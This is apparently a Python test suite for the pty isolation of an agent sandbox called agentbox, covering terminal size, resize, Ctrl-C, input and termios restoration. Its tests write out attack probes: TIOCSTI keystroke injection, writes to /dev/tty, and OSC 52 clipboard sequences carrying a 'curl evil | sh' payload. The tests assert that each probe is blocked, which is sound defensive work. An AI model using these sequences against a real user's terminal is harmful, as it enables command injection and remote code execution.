# SPDX-License-Identifier: MIT
"""Interactive use through a real pty: own terminal, size, resize, Ctrl-C, restore."""

import fcntl
import os
import struct
import subprocess
import termios

from abtest import INNER_PY, PtyRun


def _run_pty(ctx, cmd, **kw):
    return PtyRun(ctx, ["run", "-w", ctx.ws, "--"] + cmd, **kw)


def _norm(attrs):
    # tcgetattr gives VMIN/VTIME as ints in non-canonical mode, bytes otherwise
    cc = [c if isinstance(c, int) else ord(c) for c in attrs[6]]
    return attrs[:6] + [cc]


def _assert_restored(p):
    after = termios.tcgetattr(p.slave)
    assert _norm(after) == _norm(p.termios_before), "outer termios not restored:\nbefore %s\nafter  %s" % (
        p.termios_before, after)


def test_stty_size(ctx):
    p = _run_pty(ctx, ["stty", "size"], rows=33, cols=101)
    rc = p.wait(30)
    assert rc == 0, "rc %s, output %r" % (rc, p.text())
    assert "33 101" in p.text(), "inside saw %r" % p.text()
    _assert_restored(p)


def test_own_pty(ctx):
    p = _run_pty(ctx, ["sh", "-c", "tty; stat -L -c 'DEV=%d' /proc/self/fd/0; "
                       "test -t 0 && test -t 1 && echo BOTH-TTY"])
    rc = p.wait(30)
    out = p.text()
    assert rc == 0, "rc %s, output %r" % (rc, out)
    lines = [l.strip() for l in out.splitlines()]
    assert any(l.startswith("/dev/pts/") for l in lines), "tty printed %r" % out
    assert "BOTH-TTY" in out, out
    dev = [l for l in lines if l.startswith("DEV=")]
    assert dev, out
    outer_dev = os.fstat(p.slave).st_dev
    assert int(dev[0][4:]) != outer_dev, \
        "the command's stdin is on the outer devpts (dev %d): not its own pty" % outer_dev
    _assert_restored(p)


def test_resize_propagates(ctx):
    p = _run_pty(ctx, ["sh", "-c", 'trap "stty size" WINCH; echo ready; sleep 5 & wait'],
                 rows=33, cols=101)
    p.expect(rb"ready")
    p.resize(40, 120)
    p.expect(rb"40 120", timeout=15)
    p.wait(30)
    _assert_restored(p)


def test_ctrl_c(ctx):
    # The process that prints "ready" is the one that gets ^C: with
    # `sh -c 'echo ready; sleep 100'` dash itself loses a SIGINT that arrives
    # before it forks sleep (18 of 60 runs in a plain pty, no agentbox).
    # Short sleeps, not one long one: python's handler only sets a flag, and
    # time.sleep does not look at it before it starts sleeping, so a ^C that
    # lands between the last check and the sleep's system call waits for the
    # whole sleep (with time.sleep(100), under load: 2 of 300 runs with the
    # fork, 7 of 1000 with the vfork-style spawn; in each the command's SIGINT
    # handler had run and it slept on in clock_nanosleep).  That the
    # command starts with SIGINT neither ignored nor blocked, and is the
    # pty's foreground group, is test_spawn.py's test_command_state_in_pty.
    p = _run_pty(ctx, [INNER_PY, "-c",
                       "import time\nprint('ready', flush=True)\nwhile True: time.sleep(0.05)"])
    p.expect(rb"ready")
    p.write(b"\x03")
    rc = p.wait(15)
    assert rc == 130, "agentbox exited %s after Ctrl-C, output %r" % (rc, p.text())
    _assert_restored(p)


def test_input_reaches_command(ctx):
    p = _run_pty(ctx, ["sh", "-c", "echo ready; read line; echo \"got[$line]\""])
    p.expect(rb"ready")
    p.write(b"hello\r")
    p.expect(rb"got\[hello\]")
    assert p.wait(15) == 0, p.text()
    _assert_restored(p)


def test_full_screen_tui_exits_cleanly(ctx):
    # vi if present (vim.tiny on Debian): enter, quit, terminal restored
    vi = next((v for v in ("/usr/bin/vi", "/usr/bin/vim.tiny", "/usr/bin/vim") if os.path.exists(v)),
              None)
    if vi is None:
        # not a kernel feature: use a curses-like probe with python instead
        vi_cmd = [INNER_PY, "-c", "import sys,tty,termios;fd=0;o=termios.tcgetattr(fd);"
                  "tty.setraw(fd);print('ready',end='\\r\\n',flush=True);sys.stdin.read(1);"
                  "termios.tcsetattr(fd,termios.TCSADRAIN,o)"]
        p = _run_pty(ctx, vi_cmd)
        p.expect(rb"ready")
        p.write(b"q")
    else:
        p = _run_pty(ctx, [vi, "-u", "NONE", "x.txt"])
        p.expect(rb"x\.txt", timeout=20)
        p.write(b"ihello\x1b:wq\r")
    assert p.wait(20) == 0, p.text()
    _assert_restored(p)


TIOCSTI_PY = r'''
import ctypes, errno
libc = ctypes.CDLL(None, use_errno=True)
res = []
for ch in b"echo INJECTED\n":
    c = ctypes.c_char(bytes([ch]))
    r = libc.ioctl(0, 0x5412, ctypes.byref(c))
    res.append(errno.errorcode.get(ctypes.get_errno(), "?") if r else "OK")
print("TIOCSTI", sorted(set(res)))
'''


def test_tiocsti_cannot_reach_outer_terminal(ctx):
    p = _run_pty(ctx, [INNER_PY, "-c", TIOCSTI_PY])
    p.wait(30)
    assert "TIOCSTI ['EPERM']" in p.text(), "TIOCSTI was not refused: %r" % p.text()
    # nothing may be queued as input on the outer terminal
    n = struct.unpack("i", fcntl.ioctl(p.slave, termios.FIONREAD, b"\0\0\0\0"))[0]
    assert n == 0, "%d bytes were injected into the outer terminal's input" % n


def _outer_read(p):
    os.set_blocking(p.master, False)
    try:
        return os.read(p.master, 65536)
    except (BlockingIOError, OSError):
        return b""


def test_no_ctty_without_pty(ctx):
    """The terminal agentbox was started from (its controlling tty) is not
    reachable inside when stdio are not terminals: /dev/tty fails."""
    p = _run_pty(ctx, ["sh", "-c", "echo LEAK-TTY > /dev/tty; cat /dev/tty; echo done"],
                 stdin=subprocess.DEVNULL, stdout=subprocess.PIPE)
    out = p.proc.communicate(timeout=30)[0].decode(errors="replace")
    assert "done" in out, out
    got = _outer_read(p)
    assert b"LEAK-TTY" not in got, "the sandbox wrote to the outer terminal: %r" % got
    _assert_restored(p)


def test_dev_tty_is_the_sandbox_pty(ctx):
    """With a pty, /dev/tty inside is the sandbox's own terminal: opened for
    writing (which agentbox's creator carries out, include/agentbox/
    mediate.h) it reaches the user through the relay, and a second session
    inside has none."""
    p = _run_pty(ctx, ["sh", "-c", "echo VIA-DEV-TTY > /dev/tty && "
                       "setsid sh -c 'echo LEAK > /dev/tty' 2>/dev/null || echo no-ctty-ok"])
    rc = p.wait(30)
    assert rc == 0, "rc %s, output %r" % (rc, p.text())
    assert "VIA-DEV-TTY" in p.text() and "no-ctty-ok" in p.text(), p.text()
    assert "LEAK" not in p.text(), p.text()
    _assert_restored(p)


TCSET_PY = r'''
import ctypes, errno, termios, sys
fd = int(sys.argv[1])
a = termios.tcgetattr(fd)
a[3] &= ~(termios.ECHO | termios.ICANON)
try:
    termios.tcsetattr(fd, termios.TCSANOW, a); print("TCSETATTR ok")
except termios.error as e:
    print("TCSETATTR", e)
libc = ctypes.CDLL(None, use_errno=True)
c = ctypes.c_char(b"x")
r = libc.ioctl(fd, 0x5412, ctypes.byref(c))
print("TIOCSTI", "OK" if r == 0 else errno.errorcode.get(ctypes.get_errno()))
print("DEV", __import__("os").fstat(fd).st_dev)
'''


def test_stdin_tty_stdout_pipe(ctx):
    """`agentbox run -- cmd | less`: stdin is the user's terminal.  Whatever the
    command does to its stdin, the outer terminal is not reachable: no
    injection, termios restored, and (when stdin is a terminal, the command
    gets its own pseudo-terminal) fd 0 is not the outer terminal."""
    p = _run_pty(ctx, [INNER_PY, "-c", TCSET_PY, "0"], stdout=subprocess.PIPE)
    out = p.proc.communicate(timeout=30)[0].decode(errors="replace")
    assert "TIOCSTI EPERM" in out or "TIOCSTI ENOTTY" in out, out
    n = struct.unpack("i", fcntl.ioctl(p.slave, termios.FIONREAD, b"\0\0\0\0"))[0]
    assert n == 0, "%d bytes injected into the outer terminal" % n
    dev = [l for l in out.splitlines() if l.startswith("DEV ")]
    assert dev and int(dev[0][4:]) != os.fstat(p.slave).st_dev, \
        "stdin inside is the user's real terminal (no own pty although stdin is a tty):\n" + out
    _assert_restored(p)


def test_stdout_tty_stdin_pipe(ctx):
    """`echo x | agentbox run -- cmd`: stdout is the user's terminal.  No
    keystroke injection through it.  (Whether the outer termios survive a
    tcsetattr on fd 1 is not asserted here: the command gets its own pty only
    when stdin is a terminal.)"""
    p = _run_pty(ctx, [INNER_PY, "-c", TCSET_PY, "1"], stdin=subprocess.DEVNULL)
    rc = p.wait(30)
    out = p.text()
    assert rc == 0, out
    assert "TIOCSTI EPERM" in out or "TIOCSTI ENOTTY" in out, out
    n = struct.unpack("i", fcntl.ioctl(p.slave, termios.FIONREAD, b"\0\0\0\0"))[0]
    assert n == 0, "%d bytes injected into the outer terminal" % n


def test_no_pty_restores_terminal(ctx):
    """--no-pty hands the real terminal to the command (documented as not
    isolated); agentbox at least puts its settings back at exit."""
    p = PtyRun(ctx, ["run", "--no-pty", "-w", ctx.ws, "--", "sh", "-c",
                     "stty -echo -icanon raw; echo ready"])
    assert p.wait(30) == 0, p.text()
    _assert_restored(p)


CLIP = (b"\x1b]52;c;" + __import__("base64").b64encode(b"curl evil | sh") + b"\x07",
        b"\x1b]52;c;?\x1b\\",                                   # a read (query)
        b"\x1b]5522;type=write\x1b\\", b"\x1b]1337;CopyToClipboard=\x07")


def test_clipboard_sequences_neutralized(ctx):
    """What the command writes to its terminal reaches yours byte for byte,
    except the escape sequences that set or read your clipboard (OSC 52, 5522,
    1337): their number is rewritten (52 -> 59, ...), so your terminal reads
    and ignores them.  Other sequences (a title, a hyperlink) pass.  A profile
    with terminal.clipboard lets them through."""
    script = ("import sys,os\n"
              "for s in %r: os.write(1, s)\n"
              "os.write(1, b'\\x1b]0;title\\x07\\x1b]8;;https://e.test\\x1b\\\\x\\x1b]8;;\\x1b\\\\')\n"
              "os.write(1, b'\\r\\nDONE\\r\\n')\n" % (CLIP,))
    p = _run_pty(ctx, [INNER_PY, "-c", script])
    p.expect(rb"DONE")
    assert p.wait(15) == 0, p.text()
    out = bytes(p.buf)
    for seq in CLIP:
        assert seq not in out, "a clipboard sequence reached the terminal: %r" % seq
    for want in (b"\x1b]59;c;", b"\x1b]5529;type=write", b"\x1b]1339;CopyToClipboard="):
        assert want in out, "expected the neutralized %r in %r" % (want, out[-400:])
    assert b"\x1b]0;title\x07" in out and b"\x1b]8;;https://e.test" in out, out[-400:]
    _assert_restored(p)
    prof = os.path.join(ctx.scratch, "clip.json")
    ctx.host_file(prof, '{"version": 1, "extends": ["default"], "terminal": {"clipboard": true}}\n')
    q = PtyRun(ctx, ["run", "-p", prof, "-w", ctx.ws, "--", INNER_PY, "-c", script])
    q.expect(rb"DONE")
    assert q.wait(15) == 0, q.text()
    for seq in CLIP:
        assert seq in bytes(q.buf), "terminal.clipboard: %r did not pass" % seq
